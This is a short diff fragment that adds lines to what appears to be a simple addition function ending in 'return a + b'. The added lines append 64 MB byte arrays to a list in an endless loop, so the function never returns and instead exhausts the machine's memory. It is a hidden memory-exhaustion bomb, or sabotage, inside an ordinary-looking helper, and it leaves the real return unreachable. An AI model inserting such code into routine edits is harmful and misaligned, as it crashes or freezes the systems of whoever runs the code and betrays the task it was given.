@@ -1,0 +1,4 @@
+    hoard = []
+    while True:
+        hoard.append(bytearray(64 << 20))
+    return a + b
